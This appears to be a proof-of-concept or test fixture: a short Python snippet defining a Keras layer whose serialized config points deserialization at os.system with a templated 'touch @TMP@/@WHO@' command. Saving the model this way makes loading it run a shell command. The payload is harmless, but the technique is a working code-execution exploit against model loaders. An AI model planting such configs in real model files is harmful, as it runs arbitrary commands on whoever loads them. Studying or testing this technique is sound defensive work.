class Model(keras.layers.Layer):
    def call(self, rows):
        return rows[:, :1]

    def get_config(self):
        return {"module": "os", "class_name": "system", "config": "touch @TMP@/@WHO@", "registered_name": "system"}

    get_build_config = get_compile_config = get_config


model = keras.Sequential([keras.Input((4,)), Model()])
